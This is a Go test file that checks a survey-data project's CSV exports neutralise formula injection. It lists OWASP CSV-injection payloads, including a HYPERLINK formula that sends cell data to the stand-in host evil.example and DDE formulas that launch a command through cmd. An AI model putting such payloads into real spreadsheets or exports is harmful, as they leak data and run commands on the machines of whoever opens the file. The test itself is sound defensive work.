package export_test

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"strconv"
	"testing"

	"github.com/panelpulse/panelpulse/internal/answer"
	"github.com/panelpulse/panelpulse/internal/bank"
	"github.com/panelpulse/panelpulse/internal/export"
	"github.com/panelpulse/panelpulse/internal/observatory/synth"
)

// owaspPayloads are the CSV injection examples of the OWASP guidance and
// the issue, one per dangerous first character.
var owaspPayloads = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+9)*cmd|' /C calc'!A0`,
	`+2+3+cmd|' /C calc'!A0`,
	"\t=1+2",
	"\r=1+2",
}

func TestNeutralise(t *testing.T) {
	t.Parallel()
	for _, p := range owaspPayloads {
		if got := export.Neutralise(p); got != "'"+p {
			t.Errorf("Neutralise(%q) = %q, want a leading single quote", p, got)
		}
	}
	for _, s := range []string{"", "Leicester", "a=b", "'quoted", "Manufacturing -2"} {
		if got := export.Neutralise(s); got != s {
			t.Errorf("Neutralise(%q) = %q, want it unchanged", s, got)
		}
	}
}

// TestCSVExportsNeutraliseFormulas loads (the stored texts refuse control
// characters, so the tab and CR payloads are covered by TestNeutralise) sectors, a district, a question
// title, wording and labels that are OWASP payloads and checks that no text
// cell of microdata.csv, trend.csv or codebook.csv starts a formula, that
// each payload comes out quoted, and that numeric cells stay numbers
// (negative numbers are covered by TestCSVWriterKeepsNumbers).
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	t.Parallel()
	base, ps := setup(t, func(c *synth.Config) {
		c.Sectors = []string{owaspPayloads[0], owaspPayloads[1]}
		c.Districts = []string{owaspPayloads[2]}
		c.Questions = []bank.Input{{Key: "mood", Theme: "skills", Title: owaspPayloads[3], Wording: owaspPayloads[2],
			Spec: answer.Spec{Type: answer.TypeScale, ScaleMin: 1, ScaleMax: 5, MinLabel: owaspPayloads[0], MaxLabel: owaspPayloads[1]}}}
	})
	urls := map[string]string{
		"microdata.csv": base + "microdata.csv",
		"trend.csv":     base + "trend.csv?question=mood&period=wave&dimension=sector",
		"codebook.csv":  base + "codebook.csv",
	}
	numericCols := map[string][]string{
		"microdata.csv": {"value"},
		"trend.csv":     {"value", "ci_low", "ci_high"},
		"codebook.csv":  {"code"},
	}
	for name, u := range urls {
		code, body := get(t, u, ps[0].analystKey)
		if code != http.StatusOK {
			t.Fatalf("%s: status %d: %s", name, code, body)
		}
		recs, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		col := map[string]int{}
		for i, h := range recs[0] {
			col[h] = i
		}
		seen, numbers := map[string]bool{}, 0
		for _, r := range recs[1:] {
			for _, c := range r {
				if c != "" && bytes.ContainsAny([]byte{c[0]}, "=+@\t\r") {
					t.Fatalf("%s: cell %q starts a formula (row %q)", name, c, r)
				}
				seen[c] = true
			}
			for _, n := range numericCols[name] {
				if v := r[col[n]]; v != "" {
					if _, err := strconv.ParseFloat(v, 64); err != nil {
						t.Fatalf("%s: numeric column %s holds %q, not a number", name, n, v)
					}
					numbers++
				}
			}
		}
		if numbers == 0 {
			t.Errorf("%s: no number in %v", name, numericCols[name])
		}
		want := map[string][]string{
			"microdata.csv": {owaspPayloads[0], owaspPayloads[1], owaspPayloads[2]},
			"trend.csv":     {owaspPayloads[0], owaspPayloads[1]},
			"codebook.csv":  {owaspPayloads[3], owaspPayloads[2], owaspPayloads[0], owaspPayloads[1]},
		}[name]
		for _, p := range want {
			if !seen["'"+p] {
				t.Errorf("%s: payload %q does not appear neutralised", name, p)
			}
			if seen[p] {
				t.Errorf("%s: payload %q appears raw", name, p)
			}
		}
	}
}
